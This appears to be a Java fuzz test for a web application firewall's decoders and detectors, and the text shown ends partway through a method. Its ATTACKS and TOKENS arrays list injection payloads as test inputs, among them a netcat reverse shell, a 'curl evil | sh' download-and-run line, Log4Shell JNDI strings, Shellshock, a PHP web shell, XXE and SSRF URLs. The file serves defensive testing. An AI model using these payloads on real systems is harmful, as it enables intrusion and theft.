package dev.aegis.waf;

import org.junit.jupiter.api.Test;

import dev.aegis.config.WafPolicy;
import java.io.IOException;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.SplittableRandom;
import java.util.TreeMap;
import java.util.function.BiFunction;

import static org.assertj.core.api.Assertions.fail;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

/**
 * Time-bounded fuzzing of the WAF decoders and detectors. Three generators build requests: (a) random strings and
 * bytes in the URI, headers, cookies and bodies of random content types; (b) random mutations of the corpus requests
 * (shared/waf-corpus/dev.jsonl, loaded by {@link WafCorpusTest}); (c) attack payloads wrapped in encodings applied
 * repeatedly. Each request goes through {@link WafEngine#inspect} at paranoia 1..4 and through the direct path of
 * {@link WafFuzzSupport#direct} (parsing, decoders, every detector, no exception handling), and its strings through
 * every decoder of {@link Transforms}. Any exception or error fails the test, listing each distinct failure with the
 * seed that reproduces it.
 *
 * <ul>
 * <li>{@code -Dwaf.fuzz.seconds=N} (default 60) bounds the run;</li>
 * <li>{@code -Dwaf.fuzz.seed=S} fixes the master seed (the sequence of case seeds);</li>
 * <li>{@code -Dwaf.fuzz.case=C} runs exactly one case, by the seed printed next to its failure.</li>
 * </ul>
 * A case that does not return within 3 minutes after the end of the run fails the test with its seed.
 */
class WafFuzzTest {
    static final int MAX_REPORTED = 25;
    static final int MAX_SHOWN_INPUT = 600;

    // ------------------------------------------------------------------ the loop

    /** The case being run and since when (nanoTime), for the message of a hang. */
    private volatile long currentCase;
    private volatile long currentSince;

    @Test
    void decodersAndDetectorsSurviveRandomAndMutatedRequests() {
        long seconds = Long.getLong("waf.fuzz.seconds", 60);
        // a case that never returns (an endless loop) fails the test with its seed instead of hanging the build
        assertTimeoutPreemptively(Duration.ofSeconds(seconds + 180), () -> fuzz(seconds),
                () -> String.format("case %d has run for %.0f s (a hang?): rerun it with -Dwaf.fuzz.case=%d", currentCase,
                        (System.nanoTime() - currentSince) / 1e9, currentCase));
    }

    private void fuzz(long seconds) throws IOException {
        java.util.Arrays.fill(STAGE_NANOS, 0);
        String caseProp = System.getProperty("waf.fuzz.case");
        String seedProp = System.getProperty("waf.fuzz.seed");
        long master = seedProp != null ? Long.parseLong(seedProp.trim()) : new SplittableRandom().nextLong();
        Path corpusFile = WafCorpusTest.corpus();
        List<InspectionInput> corpus = new ArrayList<>();
        if (corpusFile != null) {
            for (WafCorpusTest.Case c : WafCorpusTest.load(corpusFile)) {
                corpus.add(c.input());
            }
        }
        Fuzzer fz = new Fuzzer(corpus);
        WafEngine engine = WafFuzzSupport.engine();

        Map<String, Failure> failures = new LinkedHashMap<>();
        Map<String, long[]> perGen = new TreeMap<>(); // generator -> {cases, nanos}
        long cases = 0;
        long slowestNanos = 0;
        String slowest = "";
        InspectionInput slowestInput = null;
        long t0 = System.nanoTime();
        long deadline = t0 + seconds * 1_000_000_000L;
        SplittableRandom seq = new SplittableRandom(master);
        while (caseProp == null ? System.nanoTime() < deadline : cases == 0) {
            long caseSeed = caseProp == null ? seq.nextLong() : Long.parseLong(caseProp.trim());
            Generated g = null;
            long c0 = System.nanoTime();
            currentCase = caseSeed;
            currentSince = c0;
            try {
                g = fz.generate(new SplittableRandom(caseSeed));
                run(engine, g.input());
            } catch (Throwable e) { // StackOverflowError, OutOfMemoryError and runtime exceptions alike
                String key = signature(e);
                failures.computeIfAbsent(key, k -> new Failure()).add(caseSeed, g, e);
            }
            long dt = System.nanoTime() - c0;
            cases++;
            String gen = g == null ? "?" : g.generator() + (size(g.input()) > 4096 ? " >4KiB" : "");
            long[] pg = perGen.computeIfAbsent(gen, k -> new long[2]);
            pg[0]++;
            pg[1] += dt;
            if (dt > slowestNanos && g != null) {
                slowestNanos = dt;
                slowest = gen + " case " + caseSeed + " (" + size(g.input()) + " bytes)";
                slowestInput = g.input();
            }
        }
        double secs = (System.nanoTime() - t0) / 1e9;
        StringBuilder sb = new StringBuilder(String.format("%n=== WAF fuzz: %d cases in %.1f s (%.0f/s), %s ===%n",
                cases, secs, cases / secs, caseProp != null ? "case " + caseProp.trim()
                        : "master seed " + master + " (-Dwaf.fuzz.seed=" + master + ")"));
        sb.append(String.format("corpus requests: %d%s%n", corpus.size(), corpus.isEmpty() ? " (not found: mutating built-in payloads)" : ""));
        perGen.forEach((k, v) -> sb.append(String.format("  %-28s %8d cases  %8.1f us/case%n", k, v[0], v[1] / 1e3 / v[0])));
        sb.append(String.format("time in engine.inspect PL1-4 %.1f s, direct parse+detectors %.1f s, decoders %.1f s%n",
                STAGE_NANOS[0] / 1e9, STAGE_NANOS[1] / 1e9, STAGE_NANOS[2] / 1e9));
        double again = Double.NaN;
        for (int i = 0; i < 3 && slowestInput != null && failures.isEmpty(); i++) { // a pause, or the input?
            long r0 = System.nanoTime();
            run(engine, slowestInput);
            again = Math.min(Double.isNaN(again) ? Double.MAX_VALUE : again, (System.nanoTime() - r0) / 1e6);
        }
        sb.append(String.format("slowest case: %.1f ms (rerun: %.1f ms), %s%n", slowestNanos / 1e6, again, slowest));
        System.out.print(sb);
        if (!failures.isEmpty()) {
            StringBuilder f = new StringBuilder(String.format("%d distinct failure(s) (master seed %d); rerun one with -Dwaf.fuzz.case=<seed>:%n",
                    failures.size(), master));
            int shown = 0;
            for (Map.Entry<String, Failure> e : failures.entrySet()) {
                if (shown++ >= MAX_REPORTED) {
                    f.append("... and ").append(failures.size() - MAX_REPORTED).append(" more\n");
                    break;
                }
                f.append(e.getValue().describe());
            }
            System.out.print(f);
            fail(f.toString());
        }
    }

    /**
     * What the fuzzing found, kept as plain regression cases. U+0130 ({@code %C4%B0}) lower-cases to two characters,
     * so an index found in a lower-cased copy does not fit the original string.
     */
    @Test
    void fuzzFindingsStayFixed() {
        WafEngine engine = WafFuzzSupport.engine();
        List<Map.Entry<String, String>> base = List.of(WafFuzzSupport.header("Host", "localhost"),
                WafFuzzSupport.header("User-Agent", "Mozilla/5.0"), WafFuzzSupport.header("Accept", "*/*"));
        String dotI = "\u0130";
        // Targets.parseMultipart: boundary index taken from the lower-cased Content-Type
        InspectionInput boundary = post(base, "multipart/" + dotI + "boundary=", "--x\r\n");
        // Targets.param: name= index taken from the lower-cased part header
        InspectionInput partHeader = post(base, "multipart/form-data; boundary=b",
                "--b\r\nContent-Disposition: form-data; " + dotI.repeat(3) + " name=\"field\"\r\n\r\nv\r\n--b--\r\n");
        // Rules.nullByte (920270): frag() with an index of the lower-cased value; the rule was skipped (a bypass)
        InspectionInput nul = post(base, "application/x-www-form-urlencoded", "f=" + "%C4%B0".repeat(30) + "%2500");
        // Rules.encodedTraversal (930100): the same
        InspectionInput traversal = new InspectionInput("GET", "/?f=" + "%C4%B0".repeat(30) + "%252e%252e", base,
                new byte[0], false);
        List<String> failed = new ArrayList<>();
        for (InspectionInput in : List.of(boundary, partHeader, nul, traversal)) {
            try {
                run(engine, in);
            } catch (Throwable e) {
                failed.add(show(in) + "\n  -> " + signature(e));
            }
        }
        if (Targets.parse(partHeader).values.stream().noneMatch(v -> v.name().equals("ARGS:field"))) {
            failed.add("multipart field name misread after U+0130: " + Targets.parse(partHeader).values);
        }
        // detect mode: block mode may stop at an earlier rule that reaches the threshold
        if (engine.inspect(nul, new WafPolicy(WafPolicy.WafMode.DETECT, 1, 5, List.of())).matches().stream()
                .noneMatch(m -> m.ruleId() == 920270)) {
            failed.add("920270 does not fire on a double-encoded NUL after U+0130 (it does after U+00E9)");
        }
        if (!failed.isEmpty()) {
            fail(String.join("\n", failed));
        }
    }

    private static InspectionInput post(List<Map.Entry<String, String>> base, String contentType, String body) {
        List<Map.Entry<String, String>> hs = new ArrayList<>(base);
        hs.add(WafFuzzSupport.header("Content-Type", contentType));
        return new InspectionInput("POST", "/", hs, body.getBytes(StandardCharsets.UTF_8), false);
    }

    /**
     * {@link Transforms#jndi} resolves lookups in one pass; it must give what rescanning from the start after each
     * replacement (at most 64) gives, the straightforward definition kept here as the oracle.
     */
    @Test
    void jndiSinglePassMatchesRescanningDefinition() {
        String[] alphabet = {"${", "}", "$", "{", ":-", ":", "-", "lower:", "upper:", "env:x", "::-", "j", "ndi", "x", " "};
        SplittableRandom r = new SplittableRandom(Long.getLong("waf.fuzz.seed", 42L));
        for (int n = 0; n < 300_000; n++) {
            StringBuilder sb = new StringBuilder();
            int parts = r.nextInt(n < 1000 ? 8 : 40);
            for (int i = 0; i < parts; i++) {
                sb.append(alphabet[r.nextInt(alphabet.length)]);
            }
            String s = sb.toString();
            String want = jndiByRescanning(s);
            String got = Transforms.jndi(s);
            if (!want.equals(got)) {
                fail("jndi(\"" + s + "\") = \"" + got + "\", rescanning gives \"" + want + "\"");
            }
        }
        String deep = "${lower:".repeat(100) + "j" + "}".repeat(100);
        if (!Transforms.jndi(deep).equals(jndiByRescanning(deep))) {
            fail("64-replacement bound differs");
        }
    }

    /** The definition {@link Transforms#jndi} had before it became one pass (64 rescans from the start). */
    static String jndiByRescanning(String s) {
        String cur = s;
        for (int round = 0; round < 64; round++) {
            int close = -1;
            int open = -1;
            for (int i = 0; i < cur.length(); i++) {
                char c = cur.charAt(i);
                if (c == '$' && i + 1 < cur.length() && cur.charAt(i + 1) == '{') {
                    open = i;
                } else if (c == '}' && open >= 0) {
                    String inner = cur.substring(open + 2, i);
                    int dflt = inner.indexOf(":-");
                    String rep = dflt >= 0 ? inner.substring(dflt + 2)
                            : inner.startsWith("lower:") || inner.startsWith("upper:") ? inner.substring(6) : null;
                    if (rep != null) {
                        close = i;
                        cur = cur.substring(0, open) + rep + cur.substring(close + 1);
                        break;
                    }
                    open = -1;
                }
            }
            if (close < 0) {
                return cur;
            }
        }
        return cur;
    }

    /** Nanoseconds spent in engine.inspect (all levels), the direct path and the decoders, over the run. */
    static final long[] STAGE_NANOS = new long[3];

    /** One request through the engine at every paranoia level, the direct path and every decoder. */
    static void run(WafEngine engine, InspectionInput in) {
        long t0 = System.nanoTime();
        WafFuzzSupport.direct(in); // first: it shows a parsing exception that inspect only reports as rule 920000
        long t1 = System.nanoTime();
        WafFuzzSupport.inspectAllLevels(engine, in);
        long t2 = System.nanoTime();
        WafFuzzSupport.transforms(in.uri());
        for (Map.Entry<String, String> h : in.headers()) {
            if (h.getValue() != null) {
                WafFuzzSupport.transforms(h.getValue());
            }
        }
        if (in.body().length > 0) {
            WafFuzzSupport.transforms(new String(in.body(), StandardCharsets.ISO_8859_1));
            Transforms.utf8(in.body(), new Transforms.Flags());
        }
        long t3 = System.nanoTime();
        STAGE_NANOS[0] += t2 - t1;
        STAGE_NANOS[1] += t1 - t0;
        STAGE_NANOS[2] += t3 - t2;
    }

    // ------------------------------------------------------------------ failures

    /** Exception class and the two innermost frames in the WAF's code: failures with one cause are reported once. */
    static String signature(Throwable e) {
        StringBuilder sb = new StringBuilder(e.getClass().getName());
        int n = 0;
        for (StackTraceElement st : e.getStackTrace()) {
            if (st.getClassName().startsWith("dev.aegis.waf.") && !st.getClassName().startsWith("dev.aegis.waf.WafFuzz")) {
                sb.append(" @ ").append(st.getClassName()).append('.').append(st.getMethodName()).append(':').append(st.getLineNumber());
                if (++n == 2) {
                    break;
                }
            }
        }
        return sb.toString();
    }

    static final class Failure {
        long firstSeed;
        Generated first;
        Throwable error;
        int count;

        void add(long seed, Generated g, Throwable e) {
            if (count++ == 0) {
                firstSeed = seed;
                first = g;
                error = e;
            }
        }

        String describe() {
            StringWriter sw = new StringWriter();
            PrintWriter pw = new PrintWriter(sw);
            pw.printf("--- %s  (%d case(s); first: -Dwaf.fuzz.case=%d, generator %s)%n", error, count, firstSeed,
                    first == null ? "?" : first.generator());
            if (first != null) {
                pw.printf("    input: %s%n", show(first.input()));
            }
            int shown = 0;
            for (StackTraceElement st : error.getStackTrace()) {
                if (shown < 10 && !st.getClassName().startsWith("jdk.internal.")) {
                    pw.printf("      at %s%n", st);
                    shown++;
                }
            }
            pw.flush();
            return sw.toString();
        }
    }

    static int size(InspectionInput in) {
        int n = in.method().length() + in.uri().length() + in.body().length;
        for (Map.Entry<String, String> h : in.headers()) {
            n += (h.getKey() == null ? 0 : h.getKey().length()) + (h.getValue() == null ? 0 : h.getValue().length());
        }
        return n;
    }

    /** The request, Java-escaped and truncated. */
    static String show(InspectionInput in) {
        StringBuilder sb = new StringBuilder();
        sb.append(in.method()).append(' ').append(trunc(in.uri())).append(" | ");
        for (Map.Entry<String, String> h : in.headers()) {
            sb.append(trunc(h.getKey())).append(": ").append(trunc(h.getValue())).append(" | ");
        }
        sb.append("body[").append(in.body().length).append("]=")
                .append(trunc(new String(in.body(), StandardCharsets.ISO_8859_1)));
        return sb.toString();
    }

    static String trunc(String s) {
        if (s == null) {
            return "null";
        }
        String t = s.length() > MAX_SHOWN_INPUT ? s.substring(0, MAX_SHOWN_INPUT) : s;
        StringBuilder sb = new StringBuilder();
        for (int i = 0; i < t.length(); i++) {
            char c = t.charAt(i);
            if (c < 0x20 || c >= 0x7F) {
                sb.append(String.format("\\u%04x", (int) c));
            } else {
                sb.append(c);
            }
        }
        if (s.length() > MAX_SHOWN_INPUT) {
            sb.append("...(").append(s.length()).append(" chars)");
        }
        return sb.toString();
    }

    // ------------------------------------------------------------------ generators

    record Generated(String generator, InspectionInput input) {
    }

    /** Fragments that exercise decoders, tokenisers and parsers at their edges. */
    static final String[] TOKENS = {
        "%", "%%", "%%%", "%2", "%25", "%2525", "%u", "%u00", "%u0025", "%uD800", "%uDFFF", "%uFFFF", "%uFF0E",
        "%00", "%0a", "%0d%0a", "%c0%ae", "%c0%af", "%e0%80%ae", "%f0%80%80%ae", "%f8%80%80%80%ae", "%fc%80%80%80%80%af",
        "%c0", "%ff", "%fe%ff", "%ed%a0%80", "%2e%2e%2f", "+", "+ADw-", "+AD",
        "&", "&#", "&#x", "&#X", "&#0;", "&#x0", "&#1114112;", "&#x110000;", "&#99999999999999;", "&#xFFFFFFFFFF;",
        "&#x26;", "&amp;", "&amp;amp;", "&lt", "&LT;", "&colon;", "&Tab;", "&newline;", "&nbsp;", "&#58", "&#x3a;",
        "\\", "\\\\", "\\x", "\\x4", "\\x41", "\\u", "\\u00", "\\u0027", "\\U0000003c", "\\uD800", "\\0", "\\'",
        "\u0000", "\u0001", "\u000b", "\u000c", "\u007f", "\u0085", "\u00a0", "\u00ad", "\u00c0\u00ae", "\u00ff",
        "\uD800", "\uDC00", "\uDBFF\uDFFF", "\uFEFF", "\uFFFD", "\uFFFF", "\uFF0E\uFF0E\uFF0F", "\uFF1Cscript\uFF1E",
        "\u2028", "\u017F",
        // characters whose case mapping changes the length (or maps to ASCII): an index found in a lower-cased copy
        // does not fit the original
        "\u0130", "\u0130\u0130\u0130\u0130\u0130\u0130\u0130\u0130\u0130\u0130\u0130\u0130\u0130\u0130\u0130\u0130",
        "%C4%B0", "%c4%b0%c4%b0%c4%b0%c4%b0%c4%b0%c4%b0%c4%b0%c4%b0%c4%b0%c4%b0%c4%b0%c4%b0", "\u212A", "\u00DF",
        "\uFB00", "\u0149", "\u1E9E",
        "${", "${lower:", "${upper:", "${::-j}", "${env:X:-", "${jndi:ldap://", "}", "}}", "${IFS}", "$IFS$9", "$@",
        "$(", "`", "$", "$$", "$_", "^", "'", "\"", "''", "\"\"", "'--", "' OR '1'='1", "\" or \"\"=\"", "1=1",
        "/*", "*/", "/*!", "--", "-- ", "#", ";", ";;", "||", "&&", "|", "(", ")", "((", "))", "[", "]", "{", "}",
        "<", ">", "<<", "<!--", "-->", "<!", "<?", "<?xml", "<![CDATA[", "]]>", "</script", "<script>", "<svg/onload=",
        "<a href=", "<img src=x onerror=", "<style>", "expression(", "javascript:", "java\tscript:", "data:", "data:,",
        "vbscript:", "on", "onerror=", "onx=", "=", "==", "\"=\"", "='", "?", "??", "#", "/", "//", "\\\\?\\",
        "..", "../", "..\\", "/./", "..;/", "..%2f", "0x2e", "0x2f", "/etc/passwd", "c:\\windows", "\r", "\n",
        "\r\n", "\r\n\r\n", "\n\n", "\t", " ", "  ", "@", "@@", "@@version", "union select", "UNION/**/SELECT",
        "select", "sleep(", "waitfor delay", "{{", "{%", "%}", "<%", "%>", "#{", "*{", "@{[", "a:1:{", "O:8:\"",
        "__proto__", "constructor", "[$ne]", "$where", "(|(", "*)(", "%2500", "\u0000%00", "jar:", "php://",
    };

    static final String[] ATTACKS = {
        "' OR '1'='1' -- ", "1 UNION SELECT username,password FROM users--", "'; DROP TABLE users;--",
        "<script>alert(document.cookie)</script>", "<img src=x onerror=alert(1)>", "javascript:alert(1)",
        "\"><svg/onload=confirm(1)>", "../../../../etc/passwd", "..\\..\\windows\\win.ini", ";cat /etc/passwd",
        "| nc -e /bin/sh 10.0.0.1 4444", "$(curl http://evil/x|sh)", "${jndi:ldap://evil/a}",
        "${${lower:j}${::-n}di:rmi://x/y}", "() { :; }; /bin/bash -c id", "<?php system($_GET['c']); ?>",
        "{{7*7}}{{config.__class__}}", "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>",
        "*)(uid=*))(|(uid=*", "{\"$where\":\"sleep(1000)\"}", "http://169.254.169.254/latest/meta-data/",
        "php://filter/convert.base64-encode/resource=index.php", "%0d%0aSet-Cookie:%20x=y",
        "<!--#exec cmd=\"ls\"-->", "O:8:\"stdClass\":1:{s:1:\"a\";s:1:\"b\";}", "java.lang.Runtime.getRuntime().exec(\"id\")",
    };

    static final String[] CONTENT_TYPES = {
        "application/x-www-form-urlencoded", "application/x-www-form-urlencoded; charset=utf-8", "multipart/form-data",
        "application/json", "application/json; charset=utf-7", "text/xml", "application/soap+xml", "text/plain", "",
        "application/graphql", "application/octet-stream", "multipart/mixed", "text/html", "x/y", "json", "xml",
        "APPLICATION/JSON", "multipart/", ";", "a;b=c;charset=\"\"",
    };

    static final String[] HEADER_NAMES = {
        "User-Agent", "Referer", "Accept", "Accept-Language", "Content-Length", "Transfer-Encoding", "Cookie",
        "X-Forwarded-For", "X-Api-Key", "X-Filename", "X-File-Name", "Authorization", "Origin", "Range",
        "X-HTTP-Method-Override", "Sec-Fetch-Mode", "If", "Proxy", "Content-Type", "Host", "X-Custom",
    };

    static final String[] METHODS = {"GET", "POST", "PUT", "HEAD", "OPTIONS", "DELETE", "PATCH", "TRACE", "PROPFIND",
        "get", "", "G E T", "\u0000", "GET\r\n"};

    static final class Fuzzer {
        private final List<InspectionInput> corpus;

        Fuzzer(List<InspectionInput> corpus) {
            this.corpus = corpus;
        }

        /**
         * One case. Sizes are mostly small so that the loop runs many cases a second (the engine's cost grows with the
         * bytes inspected): every field is cut to 2 KiB in 85% of the cases, to 16 KiB in 13% and to 128 KiB in 2%
         * (the cut is one more mutation: it leaves encodings, JSON and multipart unterminated).
         */
        Generated generate(SplittableRandom r) {
            int size = r.nextInt(100);
            int cap = size < 85 ? 2 << 10 : size < 98 ? 16 << 10 : 128 << 10;
            int g = r.nextInt(10);
            if (g < 3) {
                return new Generated("a:random", clamp(randomRequest(r), cap));
            }
            if (g < 7) {
                return new Generated("b:corpus-mutation", clamp(mutated(r), cap));
            }
            return new Generated("c:encoding-wrappers", clamp(encoded(r), cap));
        }

        static InspectionInput clamp(InspectionInput in, int cap) {
            List<Map.Entry<String, String>> hs = new ArrayList<>(in.headers().size());
            for (Map.Entry<String, String> h : in.headers()) {
                hs.add(WafFuzzSupport.header(cut(h.getKey(), cap), cut(h.getValue(), cap)));
            }
            byte[] body = in.body().length > cap ? java.util.Arrays.copyOf(in.body(), cap) : in.body();
            return new InspectionInput(cut(in.method(), cap), cut(in.uri(), cap), hs, body, in.bodyTruncated());
        }

        static String cut(String s, int cap) {
            return s == null || s.length() <= cap ? s : s.substring(0, cap);
        }

        // ---- (a) random requests

        InspectionInput randomRequest(SplittableRandom r) {
            String method = pick(r, METHODS);
            StringBuilder uri = new StringBuilder(r.nextInt(8) == 0 ? randomString(r, 20) : "/");
            int segs = r.nextInt(5);
            for (int i = 0; i < segs; i++) {
                uri.append(randomString(r, 16)).append('/');
            }
            if (r.nextBoolean()) {
                uri.append('?').append(randomParams(r, r.nextInt(8) == 0 ? 2000 : 8, '&'));
            }
            if (r.nextInt(10) == 0) {
                uri.append('#').append(randomString(r, 10));
            }
            List<Map.Entry<String, String>> hs = new ArrayList<>();
            if (r.nextInt(10) != 0) {
                hs.add(WafFuzzSupport.header("Host", r.nextInt(10) == 0 ? randomString(r, 10) : "localhost"));
            }
            int nh = r.nextInt(8);
            for (int i = 0; i < nh; i++) {
                String name = r.nextInt(4) == 0 ? randomString(r, 12) : pick(r, HEADER_NAMES);
                String value = name.equals("Cookie") ? randomParams(r, 12, ';') : randomString(r, 64);
                hs.add(WafFuzzSupport.header(r.nextInt(50) == 0 ? null : name, r.nextInt(50) == 0 ? null : value));
            }
            byte[] body = new byte[0];
            if (r.nextInt(3) != 0) {
                String ct = pick(r, CONTENT_TYPES);
                if (ct.startsWith("multipart") && r.nextInt(4) != 0) {
                    String boundary = randomBoundary(r);
                    ct = ct + "; boundary=" + (r.nextInt(4) == 0 ? "\"" + boundary + "\"" : boundary);
                    body = multipart(r, boundary).getBytes(StandardCharsets.UTF_8);
                } else if (ct.contains("json")) {
                    body = json(r, 0).getBytes(StandardCharsets.UTF_8);
                } else if (ct.contains("xml")) {
                    body = xml(r).getBytes(StandardCharsets.UTF_8);
                } else if (ct.contains("form")) {
                    body = randomParams(r, r.nextInt(6) == 0 ? 5000 : 10, '&').getBytes(StandardCharsets.UTF_8);
                } else {
                    body = r.nextBoolean() ? randomBytes(r, 256) : randomString(r, 256).getBytes(StandardCharsets.UTF_8);
                }
                hs.add(WafFuzzSupport.header("Content-Type", ct));
                if (r.nextInt(8) == 0) {
                    hs.add(WafFuzzSupport.header("Content-Type", pick(r, CONTENT_TYPES)));
                }
            }
            if (r.nextInt(6) == 0) {
                body = mutateBytes(r, body);
            }
            return new InspectionInput(method, uri.toString(), hs, body, r.nextInt(10) == 0);
        }

        String randomParams(SplittableRandom r, int max, char sep) {
            int n = r.nextInt(max + 1);
            StringBuilder sb = new StringBuilder();
            for (int i = 0; i < n; i++) {
                if (i > 0) {
                    sb.append(sep);
                }
                sb.append(randomString(r, 8));
                if (r.nextInt(8) != 0) {
                    sb.append('=').append(randomString(r, 24));
                }
            }
            return sb.toString();
        }

        /** A string mixing edge-case tokens, ASCII, controls, Latin-1, BMP characters and lone surrogates. */
        String randomString(SplittableRandom r, int maxLen) {
            int len = r.nextInt(maxLen + 1);
            StringBuilder sb = new StringBuilder(len + 16);
            while (sb.length() < len) {
                switch (r.nextInt(8)) {
                    case 0, 1 -> sb.append(pick(r, TOKENS));
                    case 2, 3 -> sb.append((char) (0x20 + r.nextInt(0x5F)));
                    case 4 -> sb.append((char) ('a' + r.nextInt(26)));
                    case 5 -> sb.append((char) r.nextInt(0x100));
                    case 6 -> sb.append((char) r.nextInt(0x10000));
                    default -> sb.append(pick(r, ATTACKS), 0, 1 + r.nextInt(8));
                }
            }
            return sb.toString();
        }

        byte[] randomBytes(SplittableRandom r, int maxLen) {
            byte[] b = new byte[r.nextInt(maxLen + 1)];
            for (int i = 0; i < b.length; i++) {
                b[i] = (byte) r.nextInt(256);
            }
            return b;
        }

        String randomBoundary(SplittableRandom r) {
            return switch (r.nextInt(6)) {
                case 0 -> "";
                case 1 -> "-";
                case 2 -> randomString(r, 70);
                case 3 -> "----WebKitFormBoundary" + Long.toHexString(r.nextLong());
                case 4 -> "a".repeat(1 + r.nextInt(200));
                default -> Long.toString(r.nextLong() & Long.MAX_VALUE, 36);
            };
        }

        String multipart(SplittableRandom r, String boundary) {
            StringBuilder sb = new StringBuilder();
            if (r.nextInt(4) == 0) {
                sb.append(randomString(r, 20)); // preamble
            }
            int parts = r.nextInt(8) == 0 ? 300 + r.nextInt(1000) : r.nextInt(6);
            String nl = r.nextInt(4) == 0 ? "\n" : "\r\n";
            for (int i = 0; i < parts; i++) {
                sb.append("--").append(boundary).append(nl);
                if (r.nextInt(8) != 0) {
                    sb.append("Content-Disposition: form-data");
                    if (r.nextInt(8) != 0) {
                        sb.append("; name=").append(r.nextBoolean() ? "\"" + randomString(r, 10) + "\"" : randomString(r, 10));
                    }
                    if (r.nextInt(3) == 0) {
                        sb.append("; filename=\"").append(randomString(r, 16)).append(r.nextBoolean() ? "\"" : "");
                    }
                    sb.append(nl);
                }
                if (r.nextInt(4) == 0) {
                    sb.append("Content-Type: text/plain; charset=").append(randomString(r, 8)).append(nl);
                }
                if (r.nextInt(10) != 0) {
                    sb.append(nl);
                }
                sb.append(randomString(r, 64)).append(nl);
            }
            int end = r.nextInt(5);
            if (end == 0) {
                return sb.toString(); // unterminated
            }
            sb.append("--").append(boundary).append(end == 1 ? "" : "--").append(end == 2 ? "" : nl);
            return sb.toString();
        }

        String json(SplittableRandom r, int depth) {
            int k = r.nextInt(depth > 6 ? 4 : 9);
            return switch (k) {
                case 0 -> jsonString(r);
                case 1 -> Long.toString(r.nextLong());
                case 2 -> pick(r, new String[]{"true", "false", "null", "1e999", "-0.0e-5", "01", "+1", "tru", "nul"});
                case 3 -> randomString(r, 8);
                case 4, 5 -> {
                    StringBuilder sb = new StringBuilder("[");
                    int n = r.nextInt(5);
                    for (int i = 0; i < n; i++) {
                        sb.append(i > 0 ? "," : "").append(json(r, depth + 1));
                    }
                    yield sb.append(r.nextInt(10) == 0 ? "" : "]").toString();
                }
                case 6 -> {
                    int d = 1 + r.nextInt(r.nextInt(10) == 0 ? 20000 : 100);
                    String open = r.nextBoolean() ? "[" : "{\"a\":";
                    String close = open.equals("[") ? "]" : "}";
                    yield open.repeat(d) + jsonString(r) + (r.nextBoolean() ? close.repeat(d) : "");
                }
                default -> {
                    StringBuilder sb = new StringBuilder("{");
                    int n = r.nextInt(5);
                    for (int i = 0; i < n; i++) {
                        sb.append(i > 0 ? "," : "").append(jsonString(r)).append(':').append(json(r, depth + 1));
                    }
                    yield sb.append(r.nextInt(10) == 0 ? "" : "}").toString();
                }
            };
        }

        String jsonString(SplittableRandom r) {
            StringBuilder sb = new StringBuilder("\"");
            int n = r.nextInt(12);
            for (int i = 0; i < n; i++) {
                switch (r.nextInt(6)) {
                    case 0 -> sb.append("\\u").append(String.format("%04x", r.nextInt(0x10000)));
                    case 1 -> sb.append('\\').append(pick(r, new String[]{"n", "\"", "\\", "/", "b", "u", "u12", "x", "uZZZZ", ""}));
                    case 2 -> sb.append(pick(r, ATTACKS));
                    default -> sb.append(randomString(r, 6).replace("\"", "'"));
                }
            }
            return sb.append(r.nextInt(12) == 0 ? "" : "\"").toString();
        }

        String xml(SplittableRandom r) {
            StringBuilder sb = new StringBuilder();
            if (r.nextBoolean()) {
                sb.append("<?xml version=\"1.0\" encoding=\"").append(r.nextBoolean() ? "utf-8" : randomString(r, 6)).append("\"?>");
            }
            int n = r.nextInt(12);
            for (int i = 0; i < n; i++) {
                switch (r.nextInt(6)) {
                    case 0 -> sb.append('<').append(randomString(r, 6)).append(" a=\"").append(randomString(r, 12))
                            .append(r.nextBoolean() ? "\"" : "").append(" b='").append(randomString(r, 8)).append("'>");
                    case 1 -> sb.append("</").append(randomString(r, 6)).append('>');
                    case 2 -> sb.append("<![CDATA[").append(randomString(r, 20)).append(r.nextBoolean() ? "]]>" : "");
                    case 3 -> sb.append("<!DOCTYPE x [<!ENTITY e SYSTEM \"").append(randomString(r, 10)).append("\">]>");
                    default -> sb.append(randomString(r, 20));
                }
            }
            return sb.toString();
        }

        // ---- (b) mutations of corpus requests

        InspectionInput corpusRequest(SplittableRandom r) {
            if (!corpus.isEmpty()) {
                return corpus.get(r.nextInt(corpus.size()));
            }
            String a = pick(r, ATTACKS);
            List<Map.Entry<String, String>> hs = List.of(WafFuzzSupport.header("Host", "localhost"),
                    WafFuzzSupport.header("User-Agent", "Mozilla/5.0"), WafFuzzSupport.header("Content-Type",
                            "application/x-www-form-urlencoded"));
            return new InspectionInput("POST", "/?q=" + a, hs, ("a=" + a).getBytes(StandardCharsets.UTF_8), false);
        }

        InspectionInput mutated(SplittableRandom r) {
            InspectionInput base = corpusRequest(r);
            String method = base.method();
            String uri = base.uri();
            List<Map.Entry<String, String>> hs = new ArrayList<>(base.headers());
            byte[] body = base.body();
            int rounds = 1 + r.nextInt(r.nextInt(4) == 0 ? 24 : 6);
            for (int k = 0; k < rounds; k++) {
                switch (r.nextInt(10)) {
                    case 0 -> method = r.nextInt(4) == 0 ? pick(r, METHODS) : mutateString(r, method);
                    case 1, 2, 3 -> uri = mutateString(r, uri);
                    case 4, 5 -> {
                        if (!hs.isEmpty()) {
                            int i = r.nextInt(hs.size());
                            Map.Entry<String, String> h = hs.get(i);
                            hs.set(i, r.nextInt(5) == 0
                                    ? WafFuzzSupport.header(mutateString(r, String.valueOf(h.getKey())), h.getValue())
                                    : WafFuzzSupport.header(h.getKey(), mutateString(r, String.valueOf(h.getValue()))));
                        }
                    }
                    case 6 -> {
                        // add, duplicate or drop a header
                        int op = r.nextInt(3);
                        if (op == 0 || hs.isEmpty()) {
                            hs.add(WafFuzzSupport.header(pick(r, HEADER_NAMES), randomString(r, 40)));
                        } else if (op == 1) {
                            hs.add(hs.get(r.nextInt(hs.size())));
                        } else {
                            hs.remove(r.nextInt(hs.size()));
                        }
                    }
                    case 7 -> {
                        // splice with another request
                        InspectionInput other = corpusRequest(r);
                        switch (r.nextInt(3)) {
                            case 0 -> uri = splice(r, uri, other.uri());
                            case 1 -> body = splice(r, body, other.body());
                            default -> hs.addAll(other.headers().subList(0, r.nextInt(other.headers().size() + 1)));
                        }
                    }
                    default -> body = mutateBody(r, body, hs);
                }
            }
